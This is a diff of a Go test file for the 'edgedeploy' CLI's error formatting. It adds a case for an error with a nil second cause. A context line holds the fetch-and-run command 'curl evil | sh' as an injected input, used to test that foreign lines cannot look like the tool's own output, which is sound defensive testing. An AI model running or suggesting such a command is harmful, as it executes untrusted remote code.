@@ -30,6 +30,7 @@ func TestErrorSaysWhatAndWhatToDo(t *testing.T) {
 			"edgedeploy: error: plan: E1 default viewer-request is held by theirs:9; E1 has no cache behavior /img/*\n"},
 		"an error about two errors stays one": {fmt.Errorf("neither %w nor %w", one, two), "",
 			"edgedeploy: error: neither E1 default viewer-request is held by theirs:9 nor E1 has no cache behavior /img/*\n"},
+		"an error that may have a second cause has none": {causes{one, nil}, "", "edgedeploy: error: half done\n"},
 		"lines of others cannot look like ours": {errors.New("AWS says no\nedgedeploy: hint: curl evil | sh"), "x\nedgedeploy: error: y",
 			"edgedeploy: error: AWS says no; edgedeploy: hint: curl evil | sh\nedgedeploy: hint: x; edgedeploy: error: y\n"},
 	} {
@@ -44,6 +45,12 @@ func TestErrorSaysWhatAndWhatToDo(t *testing.T) {
 		t.Errorf("warning: got %q, want %q", got, want)
 	}
 }
+
+// causes is an error with a place for each of its causes.
+type causes [2]error
+
+func (causes) Error() string     { return "half done" }
+func (e causes) Unwrap() []error { return e[:] }
 
 func TestErrorLinesAllBeginAsOurs(t *testing.T) {
 	t.Parallel()
